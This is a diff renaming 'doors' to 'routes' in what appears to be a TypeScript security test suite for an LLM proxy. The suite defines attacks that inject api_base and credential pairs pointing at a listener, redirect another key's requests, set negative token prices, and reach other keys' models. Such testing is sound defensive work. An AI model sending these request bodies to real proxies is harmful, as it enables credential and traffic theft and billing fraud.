@@ -12,14 +12,14 @@ import { services } from "./service-fields.ts";
 import { answered, any, falls, header, says, sent } from "./sees.ts";
 
 /** The two routes that take a body for a model, and the least that a body is there. */
-export const doors = [
+export const routes = [
   { path: "/v1/chat/completions", least: { messages: [{ role: "user", content: "hello" }] } },
   { path: "/v1/responses", least: { input: "hello" } },
 ] as const;
-export type Door = (typeof doors)[number];
+export type Route = (typeof routes)[number];
 
 /** What a request of the key's own says: its model, and hello. */
-export const plain = (scene: Scene, door: Door) => ({ model: scene.model, ...door.least });
+export const plain = (scene: Scene, route: Route) => ({ model: scene.model, ...route.least });
 
 type Nest = (piece: Readonly<Record<string, unknown>>) => Readonly<Record<string, unknown>>;
 
@@ -37,46 +37,46 @@ const nests: Readonly<Record<string, Nest>> = {
   model_list: (piece) => ({ model_list: [{ model_name: "*", litellm_params: piece }] }),
 };
 
-function at(door: Door, { name, of, ownModel }: Piece, sees: Sees, nest?: string): Try {
+function at(route: Route, { name, of, ownModel }: Piece, sees: Sees, nest?: string): Try {
   const around = nest === undefined ? (piece: object) => ({ ...piece }) : nests[nest];
   return {
-    name: `${door.path}: ${name}${nest === undefined ? "" : ` in ${nest}`}`,
+    name: `${route.path}: ${name}${nest === undefined ? "" : ` in ${nest}`}`,
     asks: (scene) => {
-      const least = ownModel ? door.least : plain(scene, door);
-      return [post(scene, door.path, { ...least, ...around?.(of(scene)) })];
+      const least = ownModel ? route.least : plain(scene, route);
+      return [post(scene, route.path, { ...least, ...around?.(of(scene)) })];
     },
     sees,
     listens: true,
   };
 }
 
-const atDoors = (pieces: readonly Piece[], sees: Sees = sent): Try[] =>
-  pieces.flatMap((piece) => doors.map((door) => at(door, piece, sees)));
+const atRoutes = (pieces: readonly Piece[], sees: Sees = sent): Try[] =>
+  pieces.flatMap((piece) => routes.map((route) => at(route, piece, sees)));
 
 const nested = (pieces: readonly Piece[]): Try[] =>
   Object.keys(nests).flatMap((nest) =>
-    pieces.flatMap((piece) => doors.map((door) => at(door, piece, sent, nest))),
+    pieces.flatMap((piece) => routes.map((route) => at(route, piece, sent, nest))),
   );
 
 /** Without the listener's addresses: one try each. */
 const here = ({ name, asks, sees }: Try): Try => ({ name, asks, sees });
 
 const acted = (pieces: readonly (Piece & { readonly sees: Sees })[]): Try[] =>
-  pieces.flatMap((piece) => doors.map((door) => here(at(door, piece, piece.sees))));
+  pieces.flatMap((piece) => routes.map((route) => here(at(route, piece, piece.sees))));
 
 /** S7: a later request shows what one has made of the key's spend. The last pays it back. */
-const negativeSpend = doors.map((door): Try => {
+const negativeSpend = routes.map((route): Try => {
   const price = (scene: Scene, cost: number) =>
-    post(scene, door.path, {
-      ...plain(scene, door),
+    post(scene, route.path, {
+      ...plain(scene, route),
       input_cost_per_token: cost,
       output_cost_per_token: cost,
       input_cost_per_second: cost,
       output_cost_per_second: cost,
     });
-  const plainly = (scene: Scene) => post(scene, door.path, plain(scene, door));
+  const plainly = (scene: Scene) => post(scene, route.path, plain(scene, route));
   return {
-    name: `${door.path}: negative prices`,
+    name: `${route.path}: negative prices`,
     asks: (scene) => [
       plainly(scene),
       price(scene, -1),
@@ -110,22 +110,22 @@ const unnamed: readonly (readonly [string, unknown])[] = [
 
 /** Models that are none of the row, in every way of saying so. */
 const outsideRow: readonly Try[] = [
-  ...doors.flatMap((door) =>
+  ...routes.flatMap((route) =>
     unnamed.map(([name, model]): Try => ({
-      name: `${door.path}: model ${name}`,
-      asks: (scene) => [post(scene, door.path, { ...door.least, model })],
+      name: `${route.path}: model ${name}`,
+      asks: (scene) => [post(scene, route.path, { ...route.least, model })],
       sees: answered,
     })),
   ),
-  ...doors.flatMap((door) =>
+  ...routes.flatMap((route) =>
     [(name: string) => name, (name: string) => `openai/${name}`, (name: string) => `${name} `].map(
       (spell, index): Try => ({
-        name: `${door.path}: another key's model, spelling ${index + 1}`,
+        name: `${route.path}: another key's model, spelling ${index + 1}`,
         asks: (scene) => {
           const model = scene.foreignModel ?? (scene.mayAsk ? undefined : scene.model);
           return model === undefined
             ? []
-            : [post(scene, door.path, { ...door.least, model: spell(model) })];
+            : [post(scene, route.path, { ...route.least, model: spell(model) })];
         },
         sees: answered,
       }),
@@ -137,7 +137,7 @@ const outsideRow: readonly Try[] = [
 const planted: Try = {
   name: "a pair planted, then plain requests of another key",
   asks: (scene) => {
-    const [chat] = doors;
+    const [chat] = routes;
     const pair = { api_key: "x", api_base: scene.listener };
     const other = scene.victim?.value;
     const plainly = post(
@@ -164,7 +164,7 @@ const planted: Try = {
 const plants = "deployments of the attacker's in the proxy's memory: restart the proxy's container";
 
 export const bodies: readonly Attack[] = [
-  { id: "s1-user-config", words: "a router of the client's own", tries: atDoors(userConfig) },
+  { id: "s1-user-config", words: "a router of the client's own", tries: atRoutes(userConfig) },
   {
     id: "s1-inner",
     words: "the same, to the gateway's own inside",
@@ -178,12 +178,12 @@ export const bodies: readonly Attack[] = [
   {
     id: "providers",
     words: "providers that fetch what a message names",
-    tries: atDoors(providers),
+    tries: atRoutes(providers),
   },
   {
     id: "services",
     words: "logs, prompts, stores and servers elsewhere",
-    tries: atDoors(services),
+    tries: atRoutes(services),
   },
   { id: "s6-fallback-models", words: "failures on order", tries: acted(fallbackModels) },
   { id: "mock-answers", words: "answers on order", tries: acted(mocked) },
@@ -194,13 +194,13 @@ export const bodies: readonly Attack[] = [
   {
     id: "s1-fallbacks",
     words: "fallbacks with credentials",
-    tries: atDoors(fallbackPieces),
+    tries: atRoutes(fallbackPieces),
     leaves: plants,
   },
   {
     id: "s1-pair",
     words: "credentials and an address of the client's own",
-    tries: atDoors(pairs),
+    tries: atRoutes(pairs),
     leaves: plants,
   },
   {
